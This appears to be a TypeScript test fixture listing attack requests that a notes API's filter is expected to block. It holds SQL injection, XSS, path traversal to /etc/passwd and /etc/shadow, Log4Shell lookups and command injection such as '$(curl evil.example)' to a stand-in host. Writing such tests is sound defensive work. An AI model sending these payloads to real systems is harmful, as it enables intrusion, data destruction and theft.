export interface Attack {
  readonly rule: string;
  readonly url: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly json?: unknown;
}

const sqli = [
  "1' OR '1'='1",
  "' or 1=1--",
  '" or ""="',
  "admin'--",
  "admin' #",
  '1 or 1=1',
  '1) or (1=1',
  "' OR 'x' LIKE 'x",
  "1' AND SLEEP(5)#",
  '1 UNION SELECT username, password FROM users',
  '1 UNION/**/ALL/**/SELECT NULL,NULL',
  "1'; DROP TABLE notes; --",
  "x'; DELETE FROM users --",
  '1; SELECT pg_sleep(10)',
  "'; WAITFOR DELAY '0:0:5'--",
  '1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)',
  "'||(SELECT 1)||'",
  "1' and extractvalue(1,concat(0x7e,version()))--",
  "'; exec xp_cmdshell('dir')--",
  '%31%27%20%6f%72%20%31%3d%31%2d%2d',
  '1%2527%2520or%25201=1--',
  'ＵＮＩＯＮ ＳＥＬＥＣＴ 1',
  "1' un\u200Bion sel\u200Bect 1 --",
  "a' or true--",
  "') or ('1'='1",
];
const xss = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>x</script>',
  '" onmouseover="alert(1)',
  'javascript:alert(1)',
  'JaVa\tScRiPt:alert(1)',
  '&#x3C;script&#x3E;alert(1)',
  '%253Cscript%253Ealert(1)',
  '<iframe src=x>',
  '<math><mi//xlink:href="x">',
  'data:text/html,<b>',
  "<a href='javascript&colon;alert(1)'>",
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  'document.cookie=1',
];
const traversal = [
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '....//....//../etc/shadow',
  '..\\..\\windows\\win.ini',
  '/proc/self/environ',
  'file:///etc/hosts',
  'php://filter/x',
];
const injection = [
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:rmi://x}',
  '${${::-j}ndi:x}',
  '{{7*7}}',
  "{{constructor.constructor('x')()}}",
  '<%= 7*7 %>',
  '; cat /etc/hostname',
  '| whoami',
  '$(curl evil.example)',
  '`id`',
  '() { :;}; echo',
  'a\r\nSet-Cookie: a=b',
];

const inQuery = (rule: string, list: readonly string[]): Attack[] =>
  list.map(value => ({
    rule,
    url: `/api/notes?sort=${encodeURIComponent(value)}`,
  }));

export const ATTACKS: readonly Attack[] = [
  ...inQuery('sqli', sqli),
  ...inQuery('xss', xss),
  ...inQuery('traversal', traversal),
  ...inQuery('injection', injection),
  { rule: 'xss', url: '/api/notes?%3Cscript%3Ealert(1)%3C/script%3E=1' },
  { rule: 'sqli', url: '/api/notes/1%27%20or%201=1--' },
  { rule: 'xss', url: '/api/notes/%3Cscript%3E' },
  {
    rule: 'injection',
    url: '/api/notes',
    headers: { 'user-agent': '${jndi:ldap://evil.example/a}' },
  },
  { rule: 'sqli', url: '/api/notes', headers: { 'x-tenant': "1' or '1'='1" } },
  {
    rule: 'xss',
    url: '/api/notes',
    headers: { 'accept-language': '<script>alert(1)</script>' },
  },
  {
    rule: 'sqli',
    url: '/api/auth/login',
    method: 'POST',
    json: { email: "admin'--", password: 'x' },
  },
  {
    rule: 'sqli',
    url: '/api/notes',
    method: 'POST',
    json: { title: 'x', "a' or 1=1--": 1 },
  },
  {
    rule: 'xss',
    url: '/api/config/x',
    method: 'POST',
    json: { owner: ['<script>alert(1)</script>'] },
  },
  {
    rule: 'injection',
    url: '/api/auth/login',
    method: 'POST',
    json: { email: '${jndi:ldap://x/a}' },
  },
  { rule: 'path', url: '/api/notes/../auth/users' },
  { rule: 'path', url: '/api/notes/%2e%2e/auth' },
  { rule: 'path', url: '/api/notes/%252e%252e/auth' },
  { rule: 'path', url: '/api/notes/..%2fauth' },
  { rule: 'path', url: '/api/notes/..%5cauth' },
  { rule: 'path', url: '//api/notes' },
  { rule: 'path', url: '/api//notes' },
  { rule: 'path', url: '/api/notes/./1' },
  { rule: 'path', url: '/api/notes;a=b/1' },
  { rule: 'path', url: '/api/notes/1%00.json' },
  { rule: 'path', url: '/api/notes/1%0d%0aSet-Cookie:x' },
  { rule: 'path', url: '/api/notes/%c0%ae%c0%ae/' },
  { rule: 'path', url: '/api/notes/%zz' },
  { rule: 'path', url: '/api/notes\\..\\auth' },
  { rule: 'method', url: '/api/notes', method: 'PROPFIND' },
  { rule: 'method', url: '/api/notes', method: 'TRACE' },
  { rule: 'size', url: `/api/notes?a=${'x'.repeat(7_000)}` },
  { rule: 'size', url: `/api/notes/${'x'.repeat(3_000)}` },
  { rule: 'size', url: `/api/notes?${'a=1&'.repeat(70)}` },
];
